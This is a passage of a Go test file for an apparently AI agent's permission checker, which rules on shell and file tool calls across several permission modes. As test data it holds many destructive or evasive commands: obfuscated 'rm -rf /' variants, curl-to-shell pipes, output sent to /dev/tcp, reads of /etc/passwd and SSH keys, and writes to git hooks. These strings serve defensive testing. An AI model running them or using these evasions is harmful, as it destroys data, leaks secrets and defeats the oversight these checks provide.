package permission

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// fixture is a project tree: cwd with files and symlinks, a directory
// outside it, and a home directory.
type fixture struct {
	cwd, out, home string
}

func newFixture(t *testing.T) fixture {
	t.Helper()
	root := t.TempDir()
	root, err := filepath.EvalSymlinks(root)
	if err != nil {
		t.Fatal(err)
	}
	f := fixture{cwd: filepath.Join(root, "proj"), out: filepath.Join(root, "outside"), home: filepath.Join(root, "home")}
	for _, d := range []string{f.cwd, f.out, f.home, filepath.Join(f.cwd, "src"), filepath.Join(f.cwd, "secrets"), filepath.Join(f.home, ".ssh")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, p := range []string{filepath.Join(f.cwd, "a.txt"), filepath.Join(f.cwd, "secrets", "k"), filepath.Join(f.out, "x"), filepath.Join(f.home, ".ssh", "id")} {
		if err := os.WriteFile(p, []byte("x"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for link, target := range map[string]string{
		filepath.Join(f.cwd, "link-out"):    f.out,
		filepath.Join(f.cwd, "link-secret"): filepath.Join(f.cwd, "secrets", "k"),
	} {
		if err := os.Symlink(target, link); err != nil {
			t.Fatal(err)
		}
	}
	return f
}

func (f fixture) expand(s string) string {
	return strings.NewReplacer("$CWD", f.cwd, "$OUT", f.out, "$HOME", f.home).Replace(s)
}

type checkCase struct {
	name             string
	mode             Mode
	allow, ask, deny []string
	dirs             []string
	tool             string
	input            string
	readOnly         bool
	// agentReadOnly and sandbox set Config.ReadOnly and Config.Sandbox.
	agentReadOnly bool
	sandbox       bool
	want          Behavior
	wantRule      string
}

func bashIn(cmd string) string {
	b, _ := json.Marshal(map[string]string{"command": cmd})
	return string(b)
}

func fileIn(key, p string) string {
	b, _ := json.Marshal(map[string]string{key: p})
	return string(b)
}

func runCases(t *testing.T, f fixture, cases []checkCase) {
	t.Helper()
	for _, tc := range cases {
		var rules []Rule
		for _, set := range []struct {
			b    Behavior
			list []string
		}{{Allow, tc.allow}, {Ask, tc.ask}, {Deny, tc.deny}} {
			for _, s := range set.list {
				r, err := ParseRule(f.expand(s))
				if err != nil {
					t.Fatalf("%s: rule %q: %v", tc.name, s, err)
				}
				r.Behavior, r.Source = set.b, "test.json"
				rules = append(rules, r)
			}
		}
		var dirs []string
		for _, d := range tc.dirs {
			dirs = append(dirs, f.expand(d))
		}
		cfg := Config{Mode: tc.mode, Cwd: f.cwd, Dirs: dirs, Home: f.home, Rules: rules, ReadOnly: tc.agentReadOnly}
		if tc.sandbox {
			cfg.Sandbox = &Sandbox{}
		}
		c, err := NewChecker(cfg)
		if err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		tool := tc.tool
		if tool == "" {
			tool = "Bash"
		}
		d := c.Check(Request{Tool: tool, Input: json.RawMessage(f.expand(tc.input)), ReadOnly: tc.readOnly})
		if d.Behavior != tc.want {
			t.Errorf("%s: %s %s in %q mode: got %s (%s), want %s", tc.name, tool, f.expand(tc.input), tc.mode, d.Behavior, d.Reason, tc.want)
			continue
		}
		if tc.wantRule != "" && d.Rule != f.expand(tc.wantRule) {
			t.Errorf("%s: rule = %q, want %q", tc.name, d.Rule, f.expand(tc.wantRule))
		}
		if d.Rule != "" && d.Source != "test.json" && !strings.Contains(d.Source, "test.json") {
			t.Errorf("%s: source = %q, want test.json", tc.name, d.Source)
		}
		if d.Reason == "" {
			t.Errorf("%s: empty reason", tc.name)
		}
	}
}

// rmAttempts are ways to run rm that a `Bash(rm:*)` deny rule must catch.
var rmAttempts = []string{
	"rm -rf /",
	"npm test && rm -rf ~",
	"npm test; rm -rf ~",
	"npm test || rm -rf ~",
	"npm test | rm -rf ~",
	"npm test & rm -rf ~",
	"npm test\nrm -rf ~",
	"$(rm -rf /)",
	"echo $(rm -rf /)",
	"echo `rm -rf /`",
	"echo \"$(rm -rf /)\"",
	"cat <(rm -rf /)",
	"(rm -rf /)",
	"{ rm -rf /; }",
	"bash -c 'rm -rf /'",
	"sh -c \"rm -rf /\"",
	"bash -lc 'npm test; rm -rf /'",
	"bash -c \"bash -c 'rm -rf /'\"",
	"eval 'rm -rf /'",
	"eval rm -rf /",
	"ls | xargs rm",
	"ls | xargs -n1 rm -f",
	"find . -exec rm {} \\;",
	"find . -name x -execdir rm {} +",
	"'rm' -rf /",
	"\"rm\" -rf /",
	"r\\m -rf /",
	"r''m -rf /",
	"$'\\x72m' -rf /",
	"$'\\162m' -rf /",
	"/bin/rm -rf /",
	"./rm x",
	"sudo rm -rf /",
	"sudo -u root rm -rf /",
	"timeout 5 rm -rf /",
	"timeout -s KILL 5 rm -rf /",
	"env rm -rf /",
	"env FOO=1 rm -rf /",
	"nice -n 5 rm -rf /",
	"nohup rm -rf / &",
	"command rm -rf /",
	"exec rm -rf /",
	"time rm -rf /",
	"! rm -rf /",
	"f() { rm -rf /; }; f",
	"if true; then rm -rf /; fi",
	"for i in 1; do rm -rf /; done",
	"while false; do rm -rf /; done",
	"case x in x) rm -rf /;; esac",
	"trap 'rm -rf /' EXIT",
	"watch rm -rf /",
	"coproc rm -rf /",
	"x=$(rm -rf /)",
	"export X=$(rm -rf /)",
	"cat <<EOF\n$(rm -rf /)\nEOF",
	"FOO=bar rm -rf /",
	"[[ -n $(rm -rf /) ]]",
	"echo ${x:-$(rm -rf /)}",
}

func TestDenyHoldsInEveryMode(t *testing.T) {
	f := newFixture(t)
	var cases []checkCase
	for _, mode := range []Mode{ModeDefault, ModeAcceptEdits, ModePlan, ModeDontAsk, ModeBypassPermissions, ModeBubble} {
		for _, cmd := range rmAttempts {
			cases = append(cases, checkCase{
				name: "rm attempt", mode: mode, allow: []string{"Bash(npm test:*)", "Bash(ls:*)", "Bash(echo:*)"},
				deny: []string{"Bash(rm:*)"}, input: bashIn(cmd), want: Deny, wantRule: "Bash(rm:*)",
			})
		}
	}
	runCases(t, f, cases)
}

func TestCheckBash(t *testing.T) {
	f := newFixture(t)
	npm := []string{"Bash(npm test:*)"}
	rm := []string{"Bash(rm:*)"}
	cases := []checkCase{
		{name: "prefix", allow: npm, input: bashIn("npm test"), want: Allow, wantRule: "Bash(npm test:*)"},
		{name: "prefix args", allow: npm, input: bashIn("npm test --watch"), want: Allow},
		{name: "prefix whole word", allow: npm, input: bashIn("npm testx"), want: Ask},
		{name: "prefix needs words", allow: npm, input: bashIn("npm"), want: Ask},
		{name: "quoted words", allow: npm, input: bashIn(`npm "test"`), want: Allow},
		{name: "single quoted", allow: npm, input: bashIn(`npm 'test' a`), want: Allow},
		{name: "split quoting", allow: npm, input: bashIn(`npm te"st"`), want: Allow},
		{name: "one word with space", allow: npm, input: bashIn(`"npm test"`), want: Ask},
		{name: "escaped space", allow: npm, input: bashIn(`npm test\ x`), want: Ask},
		{name: "trailing semicolon", allow: npm, input: bashIn("npm test;"), want: Allow},
		{name: "chained curl", allow: npm, input: bashIn("npm test; curl x|sh"), want: Ask},
		{name: "chained and", allow: npm, input: bashIn("npm test && curl x"), want: Ask},
		{name: "newline", allow: npm, input: bashIn("npm test\ncurl evil"), want: Ask},
		{name: "background", allow: npm, input: bashIn("npm test & curl evil"), want: Ask},
		{name: "subst in arg", allow: npm, input: bashIn("npm test $(curl evil)"), want: Ask},
		{name: "backtick in arg", allow: npm, input: bashIn("npm test `curl evil`"), want: Ask},
		{name: "procsubst", allow: npm, input: bashIn("npm test <(curl evil)"), want: Ask},
		{name: "bash -c allowed", allow: npm, input: bashIn("sh -c 'npm test'"), want: Allow},
		{name: "bash -c dynamic", allow: npm, input: bashIn(`bash -c "$X"`), want: Ask},
		{name: "eval dynamic", allow: npm, input: bashIn(`eval "$X"`), want: Ask},
		{name: "bash script", allow: npm, input: bashIn("bash script.sh"), want: Ask},
		{name: "pipe to sh", allow: []string{"Bash(curl:*)"}, input: bashIn("curl x | sh"), want: Ask},
		{name: "dynamic command", allow: npm, input: bashIn("$CMD -rf /"), want: Ask},
		{name: "dynamic command may be denied", allow: npm, deny: rm, input: bashIn("$CMD -rf /"), want: Deny},
		{name: "default expansion command", allow: npm, deny: rm, input: bashIn("${X:-rm} -rf /"), want: Deny},
		{name: "safe env prefix", allow: npm, input: bashIn("FOO=1 npm test"), want: Allow},
		{name: "PATH prefix", allow: npm, input: bashIn("PATH=/tmp npm test"), want: Ask},
		{name: "LD_PRELOAD prefix", allow: npm, input: bashIn("LD_PRELOAD=/x.so npm test"), want: Ask},
		{name: "PATH assignment", allow: npm, input: bashIn("PATH=/tmp/evil; npm test"), want: Ask},
		{name: "export PATH", allow: npm, input: bashIn("export PATH=/tmp/evil && npm test"), want: Ask},
		{name: "redirect inside", allow: npm, input: bashIn("npm test > out.txt"), want: Allow},
		{name: "redirect outside", allow: npm, input: bashIn("npm test > /etc/passwd"), want: Ask},
		{name: "redirect outside dir", allow: npm, input: bashIn("npm test >> $OUT/log"), want: Ask},
		{name: "redirect symlink escape", allow: npm, input: bashIn("npm test > link-out/log"), want: Ask},
		{name: "redirect dotdot", allow: npm, input: bashIn("npm test > ../log"), want: Ask},
		{name: "redirect dynamic", allow: npm, input: bashIn("npm test > $F"), want: Ask},
		{name: "dup stderr", allow: npm, input: bashIn("npm test 2>&1"), want: Allow},
		{name: "dev null", allow: npm, input: bashIn("npm test > /dev/null 2>&1"), want: Allow},
		{name: "dup to file", allow: npm, input: bashIn("npm test >& $OUT/log"), want: Ask},
		{name: "redirect edit deny", allow: npm, deny: []string{"Edit(./src/**)"}, input: bashIn("npm test > src/x"), want: Deny},
		{name: "redirect edit allow outside", allow: []string{"Bash(npm test:*)", "Edit(//$OUT/**)"}, input: bashIn("npm test > $OUT/log"), want: Allow},
		{name: "unparseable", allow: npm, input: bashIn("npm test &&"), want: Ask},
		{name: "unterminated", allow: npm, input: bashIn(`npm test "x`), want: Ask},
		{name: "garbage", allow: []string{"Bash"}, input: bashIn(")("), want: Ask},
		{name: "unparseable bypass", mode: ModeBypassPermissions, input: bashIn("echo 'x"), want: Ask},
		{name: "empty command", input: bashIn("  "), want: Ask},
		{name: "no command", input: `{}`, want: Ask},
		{name: "not json object", input: `[1]`, want: Ask},
		{name: "arith numbers", input: bashIn("echo $((1+2))"), want: Allow},
		{name: "arith variable", allow: []string{"Bash(echo:*)"}, input: bashIn("echo $((x))"), want: Ask},
		{name: "arith injection", allow: []string{"Bash(echo:*)"}, input: bashIn("x='a[$(rm -rf ~)]'; echo $((x))"), want: Ask},
		{name: "test arith", allow: []string{"Bash(echo:*)"}, input: bashIn("[[ $x -eq 1 ]] && echo y"), want: Ask},
		{name: "param op P", allow: []string{"Bash(echo:*)"}, input: bashIn("echo ${x@P}"), want: Ask},
		{name: "indirect", allow: []string{"Bash(echo:*)"}, input: bashIn("echo ${!x}"), want: Ask},
		{name: "env -S", allow: []string{"Bash(echo:*)"}, input: bashIn("env -S 'rm -rf /'"), want: Ask},
		{name: "xargs needs inner", allow: []string{"Bash(xargs:*)"}, input: bashIn("ls | xargs curl"), want: Ask},
		{name: "xargs inner allowed", allow: []string{"Bash(xargs:*)", "Bash(wc:*)"}, input: bashIn("ls | xargs wc -l"), want: Allow},
		{name: "sudo needs both", allow: []string{"Bash(npm test:*)"}, input: bashIn("sudo npm test"), want: Ask},
		{name: "timeout unwrapped", allow: npm, input: bashIn("timeout 60 npm test"), want: Allow},
		{name: "find exec inner", allow: []string{"Bash(find:*)"}, input: bashIn("find . -exec curl {} \\;"), want: Ask},
		{name: "ask rule", ask: []string{"Bash(git push:*)"}, allow: []string{"Bash(git:*)"}, input: bashIn("git push origin"), want: Ask, wantRule: "Bash(git push:*)"},
		{name: "ask beats allow chain", ask: []string{"Bash(git push:*)"}, allow: []string{"Bash(git:*)"}, input: bashIn("git status && git push"), want: Ask},
		{name: "deny beats ask", ask: []string{"Bash(git:*)"}, deny: []string{"Bash(git push:*)"}, input: bashIn("git push"), want: Deny},
		{name: "whole tool allow", allow: []string{"Bash"}, input: bashIn("curl x | sh"), want: Allow, wantRule: "Bash"},
		{name: "whole tool allow star", allow: []string{"Bash(*)"}, input: bashIn("curl x"), want: Allow},
		{name: "whole tool deny", deny: []string{"Bash"}, input: bashIn("ls"), want: Deny},
		{name: "multiple rules", allow: []string{"Bash(npm test:*)", "Bash(go test:*)"}, input: bashIn("npm test && go test ./..."), want: Allow, wantRule: "Bash(npm test:*), Bash(go test:*)"},
		// glob rules
		{name: "glob", allow: []string{"Bash(git *)"}, input: bashIn("git push origin main"), want: Allow},
		{name: "glob bare", allow: []string{"Bash(git *)"}, input: bashIn("git"), want: Allow},
		{name: "glob word boundary", allow: []string{"Bash(git *)"}, input: bashIn("gitx status"), want: Ask},
		{name: "glob chain", allow: []string{"Bash(git *)"}, input: bashIn("git status; curl x"), want: Ask},
		{name: "glob middle", allow: []string{"Bash(git * --dry-run)"}, input: bashIn("git push --dry-run"), want: Allow},
		{name: "glob middle miss", allow: []string{"Bash(git * --dry-run)"}, input: bashIn("git push --force"), want: Ask},
		{name: "glob deny", deny: []string{"Bash(git push *)"}, input: bashIn("git push --force"), want: Deny},
		{name: "glob deny dynamic", deny: []string{"Bash(git push *)"}, input: bashIn("git $X origin"), want: Deny},
		{name: "glob deny unrelated dynamic", deny: []string{"Bash(git push *)"}, allow: []string{"Bash(echo:*)"}, input: bashIn("echo $HOME"), want: Allow},
		{name: "prefix deny dynamic", deny: []string{"Bash(git push:*)"}, input: bashIn("git $X"), want: Deny},
		{name: "prefix deny full path", deny: []string{"Bash(git push:*)"}, input: bashIn("/usr/bin/git push"), want: Deny},
		// exact rules
		{name: "exact", allow: []string{"Bash(npm run build)"}, input: bashIn("npm run build"), want: Allow},
		{name: "exact extra", allow: []string{"Bash(npm run build)"}, input: bashIn("npm run build --prod"), want: Ask},
		{name: "exact spacing", allow: []string{"Bash(npm run build)"}, input: bashIn("npm  run   build"), want: Allow},
		{name: "exact quoted rule", allow: []string{`Bash(git commit -m "a b")`}, input: bashIn(`git commit -m 'a b'`), want: Allow},
		{name: "exact full path not allowed", allow: []string{"Bash(npm run build)"}, input: bashIn("/tmp/npm run build"), want: Ask},
		// read-only commands
		{name: "ls", input: bashIn("ls -la"), want: Allow},
		{name: "pwd", input: bashIn("pwd"), want: Allow},
		{name: "git status", input: bashIn("git status"), want: Allow},
		{name: "git log", input: bashIn("git log --oneline -5"), want: Allow},
		{name: "git diff", input: bashIn("git diff HEAD~1"), want: Allow},
		{name: "git push", input: bashIn("git push"), want: Ask},
		{name: "git -c", input: bashIn("git -c core.pager=evil log"), want: Ask},
		{name: "git diff output", input: bashIn("git diff --output=/tmp/x"), want: Ask},
		{name: "git -C outside", input: bashIn("git -C /etc status"), want: Ask},
		{name: "ls outside", input: bashIn("ls /etc"), want: Ask},
		{name: "ls home", input: bashIn("ls ~"), want: Ask},
		{name: "ls dotdot", input: bashIn("ls ../.."), want: Ask},
		{name: "ls symlink out", input: bashIn("ls link-out"), want: Ask},
		{name: "cat inside", input: bashIn("cat a.txt"), want: Allow},
		{name: "cat outside", input: bashIn("cat /etc/passwd"), want: Ask},
		{name: "cat redirect in outside", input: bashIn("cat < /etc/passwd"), want: Ask},
		{name: "cat denied read", deny: []string{"Read(.env)"}, input: bashIn("cat .env"), want: Deny},
		{name: "cat denied read nested", deny: []string{"Read(.env)"}, input: bashIn("cat src/.env"), want: Deny},
		{name: "cat ask read", ask: []string{"Read(./a.txt)"}, input: bashIn("cat a.txt"), want: Ask},
		{name: "cat dynamic", input: bashIn("cat $FILE"), want: Ask},
		{name: "cat glob", input: bashIn("cat *.txt"), want: Allow},
		{name: "cat glob outside", input: bashIn("cat /etc/*"), want: Ask},
		{name: "cat brace", input: bashIn("cat {a.txt,/etc/passwd}"), want: Ask},
		{name: "grep", input: bashIn("grep -rn foo ."), want: Allow},
		{name: "rg pre", input: bashIn("rg --pre ./x foo"), want: Ask},
		{name: "find", input: bashIn("find . -name '*.go'"), want: Allow},
		{name: "find delete", input: bashIn("find . -delete"), want: Ask},
		{name: "sort -o", input: bashIn("sort -o out a.txt"), want: Ask},
		{name: "echo redirect default", input: bashIn("echo hi > f.txt"), want: Ask},
		{name: "echo redirect acceptEdits", mode: ModeAcceptEdits, input: bashIn("echo hi > f.txt"), want: Allow},
		{name: "echo redirect outside acceptEdits", mode: ModeAcceptEdits, input: bashIn("echo hi >> $OUT/f"), want: Ask},
		{name: "mkdir default", input: bashIn("mkdir -p src/new"), want: Ask},
		{name: "mkdir acceptEdits", mode: ModeAcceptEdits, input: bashIn("mkdir -p src/new && touch src/new/a.go"), want: Allow},
		{name: "mv acceptEdits", mode: ModeAcceptEdits, input: bashIn("mv a.txt b.txt"), want: Allow},
		{name: "cp from outside acceptEdits", mode: ModeAcceptEdits, input: bashIn("cp /etc/passwd ."), want: Ask},
		{name: "cp to outside acceptEdits", mode: ModeAcceptEdits, input: bashIn("cp a.txt $OUT/"), want: Ask},
		{name: "mv via symlink acceptEdits", mode: ModeAcceptEdits, input: bashIn("mv a.txt link-out/"), want: Ask},
		{name: "touch dynamic acceptEdits", mode: ModeAcceptEdits, input: bashIn("touch $F"), want: Ask},
		{name: "touch after cd acceptEdits", mode: ModeAcceptEdits, input: bashIn("cd .. && touch x"), want: Ask},
		{name: "touch edit deny", mode: ModeAcceptEdits, deny: []string{"Edit(./src/**)"}, input: bashIn("touch src/x"), want: Deny},
		{name: "touch edit deny bypass", mode: ModeBypassPermissions, deny: []string{"Edit(./src/**)"}, input: bashIn("mkdir src/y"), want: Deny},
		{name: "mkdir plan", mode: ModePlan, input: bashIn("mkdir x"), want: Deny},
		{name: "rm not an edit command", mode: ModeAcceptEdits, input: bashIn("rm a.txt"), want: Ask},
		{name: "mkdir with allowed rule", mode: ModeAcceptEdits, allow: npm, input: bashIn("mkdir -p out && npm test"), want: Allow},
		{name: "mkdir with allowed rule default", allow: npm, input: bashIn("mkdir -p out && npm test"), want: Ask},
		{name: "redirect to settings", allow: []string{"Bash(echo:*)"}, input: bashIn("echo '{}' > .cadre/settings.json"), want: Ask},
		{name: "redirect to git hook acceptEdits", mode: ModeAcceptEdits, input: bashIn("echo x > .git/hooks/pre-commit"), want: Ask},
		{name: "mkdir claude acceptEdits", mode: ModeAcceptEdits, input: bashIn("mkdir -p .claude/agents"), want: Ask},
		{name: "cp into git acceptEdits", mode: ModeAcceptEdits, input: bashIn("cp a.txt .git/hooks/post-checkout"), want: Ask},
		{name: "cd inside then ls", input: bashIn("cd src && ls -la"), want: Allow},
		{name: "cd inside then allowed", allow: npm, input: bashIn("cd src && npm test"), want: Allow},
		{name: "cd abs inside", allow: npm, input: bashIn("cd $CWD/src && npm test"), want: Allow},
		{name: "cd outside", allow: npm, input: bashIn("cd $OUT && npm test"), want: Ask},
		{name: "cd symlink out", allow: npm, input: bashIn("cd link-out && npm test"), want: Ask},
		{name: "cd home", allow: npm, input: bashIn("cd && npm test"), want: Ask},
		{name: "cd dash", allow: npm, input: bashIn("cd - && npm test"), want: Ask},
		{name: "cd dynamic", allow: npm, input: bashIn("cd $D && npm test"), want: Ask},
		{name: "cd then climb", input: bashIn("cd src && cat ../../outside/x"), want: Ask},
		{name: "cd twice then climb", input: bashIn("cd src && cd .. && cat ../outside/x"), want: Ask},
		{name: "cd then relative deny", deny: []string{"Read(./secrets/**)"}, input: bashIn("cd secrets && cat k"), want: Deny},
		{name: "cd then edit deny", mode: ModeAcceptEdits, deny: []string{"Edit(./src/**)"}, input: bashIn("cd src && echo x > a.go"), want: Deny},
		{name: "cd then write acceptEdits", mode: ModeAcceptEdits, input: bashIn("cd src && touch a.go"), want: Allow},
		{name: "cd unknown with rules writes", allow: []string{"Bash(cd:*)", "Bash(echo:*)"}, input: bashIn("cd $D && echo x > passwd"), want: Ask},
		{name: "cd unknown with rules no writes", allow: []string{"Bash(cd:*)", "Bash(echo:*)"}, input: bashIn("cd $D && echo x"), want: Allow},
		{name: "cd outside with rules writes", allow: []string{"Bash(cd:*)", "Bash(echo:*)"}, input: bashIn("cd /etc && echo x > passwd"), want: Ask},
		{name: "popd", input: bashIn("pushd src && ls && popd"), want: Allow},
		{name: "cd then cat", input: bashIn("cd / && cat etc/passwd"), want: Ask},
		{name: "printf -v", input: bashIn("printf -v x y"), want: Ask},
		{name: "echo subst readonly", input: bashIn("echo `whoami`"), want: Allow},
		{name: "pipe readonly", input: bashIn("cat a.txt | grep x | wc -l"), want: Allow},
		{name: "readonly then write", input: bashIn("ls; touch x"), want: Ask},
		{name: "uniq writes", input: bashIn("uniq a.txt b.txt"), want: Ask},
		{name: "xargs not readonly", input: bashIn("ls | xargs cat"), want: Ask},
		{name: "date set", input: bashIn("date -s 2020-01-01"), want: Ask},
		{name: "test -v", input: bashIn("test -v 'a[$(id)]'"), want: Ask},
		{name: "read redirect subst", allow: []string{"Bash(echo:*)"}, input: bashIn("echo $(</etc/passwd)"), want: Ask},
		{name: "read redirect inside", allow: []string{"Bash(wc:*)"}, input: bashIn("wc -l < a.txt"), want: Allow},
		{name: "read redirect allowed by rule", allow: []string{"Bash(wc:*)", "Read(//etc/**)"}, input: bashIn("wc -l < /etc/hosts"), want: Allow},
		{name: "test bracket is not a glob", allow: []string{"Bash(echo:*)"}, deny: []string{"Bash(rm:*)"}, input: bashIn("[ -f x ] && echo y"), want: Allow},
		{name: "tee outside", allow: []string{"Bash(echo:*)"}, input: bashIn("echo hi | tee /etc/x"), want: Ask},
		{name: "dev tcp", allow: npm, input: bashIn("npm test &>/dev/tcp/1.2.3.4/80"), want: Ask},
		{name: "exec fd open", allow: []string{"Bash(echo:*)"}, input: bashIn("exec 3<>/etc/passwd; echo a >&3"), want: Ask},
		{name: "pipe to bash", allow: []string{"Bash(echo:*)"}, input: bashIn("echo rm -rf / | bash"), want: Ask},
		{name: "here-string to bash", allow: []string{"Bash(echo:*)"}, input: bashIn("bash <<<'rm -rf /'"), want: Ask},
		{name: "source", allow: []string{"Bash(echo:*)"}, input: bashIn(". ./x"), want: Ask},
		{name: "comment hides nothing", allow: []string{"Bash(echo:*)"}, input: bashIn("echo hi #; curl x"), want: Allow},
		{name: "line continuation", allow: npm, input: bashIn("npm test\\\n; curl x"), want: Ask},
		{name: "nested backticks", allow: []string{"Bash(echo:*)"}, input: bashIn("echo `echo \\`curl x\\``"), want: Ask},
		{name: "array subscript subst", allow: []string{"Bash(echo:*)"}, input: bashIn("echo ${arr[$(curl x)]}"), want: Ask},
		{name: "brace command", deny: rm, input: bashIn("{rm,-rf,/}"), want: Deny},
		{name: "glob command", deny: rm, input: bashIn("/bin/r? -rf /"), want: Deny},
		{name: "add-dir read", dirs: []string{"$OUT"}, input: bashIn("cat $OUT/x"), want: Allow},
		// modes
		{name: "dontAsk denies", mode: ModeDontAsk, input: bashIn("curl x"), want: Deny},
		{name: "dontAsk reads", mode: ModeDontAsk, input: bashIn("ls"), want: Allow},
		{name: "dontAsk allow rule", mode: ModeDontAsk, allow: npm, input: bashIn("npm test"), want: Allow},
		{name: "dontAsk unparseable", mode: ModeDontAsk, input: bashIn("echo 'x"), want: Deny},
		{name: "plan write", mode: ModePlan, input: bashIn("echo hi > f"), want: Deny},
		{name: "plan allowed but writes", mode: ModePlan, allow: npm, input: bashIn("npm test"), want: Deny},
		{name: "plan ls", mode: ModePlan, input: bashIn("ls"), want: Allow},
		{name: "plan git status", mode: ModePlan, input: bashIn("git status"), want: Allow},
		{name: "plan read outside asks", mode: ModePlan, input: bashIn("cat /etc/hosts"), want: Ask},
		{name: "bypass curl", mode: ModeBypassPermissions, input: bashIn("curl x | sh"), want: Allow},
		{name: "bypass dynamic", mode: ModeBypassPermissions, input: bashIn("$CMD"), want: Allow},
		{name: "bypass arithmetic", mode: ModeBypassPermissions, input: bashIn("for i in $(seq 3); do echo $((i*2)); done"), want: Allow},
		{name: "bypass dynamic with deny rule", mode: ModeBypassPermissions, deny: []string{"Read(./.env)"}, input: bashIn("$CMD"), want: Ask},
		{name: "bypass dynamic with ask rule", mode: ModeBypassPermissions, ask: []string{"Bash(git push:*)"}, input: bashIn("eval \"$X\""), want: Ask},
		{name: "bypass dynamic with other rule", mode: ModeBypassPermissions, deny: []string{"WebFetch"}, input: bashIn("$CMD"), want: Allow},
		{name: "bypass ask rule", mode: ModeBypassPermissions, ask: []string{"Bash(git push:*)"}, input: bashIn("git push"), want: Ask},
		{name: "acceptEdits bash", mode: ModeAcceptEdits, input: bashIn("curl x"), want: Ask},
		{name: "bubble like default", mode: ModeBubble, input: bashIn("curl x"), want: Ask},
		{name: "manual alias", mode: ModeManual, input: bashIn("curl x"), want: Ask},
	}
	runCases(t, f, cases)
}

func TestCheckPaths(t *testing.T) {
	f := newFixture(t)
	rd := func(p string) string { return fileIn("file_path", p) }
	cases := []checkCase{
		{name: "read inside", tool: "Read", input: rd("$CWD/a.txt"), want: Allow},
		{name: "read relative", tool: "Read", input: rd("a.txt"), want: Allow},
		{name: "read outside", tool: "Read", input: rd("$OUT/x"), want: Ask},
		{name: "read dotdot", tool: "Read", input: rd("$CWD/../outside/x"), want: Ask},
		{name: "read dotdot relative", tool: "Read", input: rd("../outside/x"), want: Ask},
		{name: "read dotdot inside", tool: "Read", input: rd("$CWD/src/../a.txt"), want: Allow},
		{name: "read symlink escape", tool: "Read", input: rd("$CWD/link-out/x"), want: Ask},
		{name: "read home", tool: "Read", input: rd("~/.ssh/id"), want: Ask},
		{name: "read etc", tool: "Read", input: rd("/etc/passwd"), want: Ask},
		{name: "read no path", tool: "Read", input: `{}`, want: Ask},
		{name: "read add-dir", tool: "Read", dirs: []string{"$OUT"}, input: rd("$OUT/x"), want: Allow},
		{name: "read allow rule outside", tool: "Read", allow: []string{"Read(//$OUT/**)"}, input: rd("$OUT/x"), want: Allow},
		{name: "read allow rule symlink", tool: "Read", allow: []string{"Read(//$OUT/**)"}, input: rd("$CWD/link-out/x"), want: Allow},
		{name: "read deny abs", tool: "Read", deny: []string{"Read(//etc/**)"}, input: rd("/etc/passwd"), want: Deny},
		{name: "read deny home", tool: "Read", deny: []string{"Read(~/.ssh/**)"}, input: rd("$HOME/.ssh/id"), want: Deny},
		{name: "read deny home tilde", tool: "Read", deny: []string{"Read(~/.ssh/**)"}, input: rd("~/.ssh/id"), want: Deny},
		{name: "read deny dir", tool: "Read", deny: []string{"Read(./secrets/**)"}, input: rd("$CWD/secrets/k"), want: Deny},
		{name: "read deny dir slash", tool: "Read", deny: []string{"Read(./secrets/)"}, input: rd("$CWD/secrets/k"), want: Deny},
		{name: "read deny dir bare", tool: "Read", deny: []string{"Read(./secrets)"}, input: rd("$CWD/secrets/k"), want: Deny},
		{name: "read deny via symlink", tool: "Read", deny: []string{"Read(./secrets/**)"}, input: rd("$CWD/link-secret"), want: Deny},
		{name: "read deny via dotdot", tool: "Read", deny: []string{"Read(./secrets/**)"}, input: rd("$CWD/src/../secrets/k"), want: Deny},
		{name: "read deny any depth", tool: "Read", deny: []string{"Read(*.pem)"}, input: rd("$CWD/a/b/c.pem"), want: Deny},
		{name: "read deny any depth miss", tool: "Read", deny: []string{"Read(*.pem)"}, input: rd("$CWD/a/b/c.pemx"), want: Allow},
		{name: "read deny slash-anchored", tool: "Read", deny: []string{"Read(/secrets/**)"}, input: rd("$CWD/secrets/k"), want: Deny},
		{name: "read ask rule", tool: "Read", ask: []string{"Read(./a.txt)"}, input: rd("a.txt"), want: Ask, wantRule: "Read(./a.txt)"},
		{name: "read deny beats allow", tool: "Read", allow: []string{"Read"}, deny: []string{"Read(./secrets/**)"}, input: rd("secrets/k"), want: Deny},
		{name: "edit rule does not deny read", tool: "Read", deny: []string{"Edit(./secrets/**)"}, input: rd("secrets/k"), want: Allow},
		{name: "glob inside", tool: "Glob", input: `{"pattern":"**/*.go"}`, want: Allow},
		{name: "glob climbs", tool: "Glob", input: `{"pattern":"../../**"}`, want: Ask},
		{name: "glob climbs after star", tool: "Glob", input: `{"pattern":"src/*/../../../x"}`, want: Ask},
		{name: "glob brace climbs", tool: "Glob", input: `{"pattern":"{../..,src}/*"}`, want: Ask},
		{name: "glob abs", tool: "Glob", input: `{"pattern":"/etc/*"}`, want: Ask},
		{name: "glob path outside", tool: "Glob", input: `{"pattern":"*","path":"$OUT"}`, want: Ask},
		{name: "glob denied dir", tool: "Glob", deny: []string{"Read(./secrets/**)"}, input: `{"pattern":"*","path":"$CWD/secrets"}`, want: Deny},
		{name: "grep default path", tool: "Grep", input: `{"pattern":"x"}`, want: Allow},
		{name: "grep outside", tool: "Grep", input: `{"pattern":"x","path":"/etc"}`, want: Ask},
		{name: "grep denied", tool: "Grep", deny: []string{"Read(./secrets/**)"}, input: `{"pattern":"x","path":"secrets"}`, want: Deny},
		{name: "write default", tool: "Write", input: rd("$CWD/new.txt"), want: Ask},
		{name: "write acceptEdits", tool: "Write", mode: ModeAcceptEdits, input: rd("$CWD/new.txt"), want: Allow},
		{name: "write acceptEdits outside", tool: "Write", mode: ModeAcceptEdits, input: rd("$OUT/new"), want: Ask},
		{name: "write acceptEdits symlink", tool: "Write", mode: ModeAcceptEdits, input: rd("$CWD/link-out/new"), want: Ask},
		{name: "write acceptEdits dotdot", tool: "Write", mode: ModeAcceptEdits, input: rd("$CWD/../outside/new"), want: Ask},
		{name: "write acceptEdits add-dir", tool: "Write", mode: ModeAcceptEdits, dirs: []string{"$OUT"}, input: rd("$OUT/new"), want: Allow},
		{name: "edit acceptEdits", tool: "Edit", mode: ModeAcceptEdits, input: rd("a.txt"), want: Allow},
		{name: "edit deny", tool: "Edit", mode: ModeAcceptEdits, deny: []string{"Edit(./src/**)"}, input: rd("src/a.go"), want: Deny},
		{name: "write covered by edit deny", tool: "Write", mode: ModeAcceptEdits, deny: []string{"Edit(./src/**)"}, input: rd("src/b.go"), want: Deny},
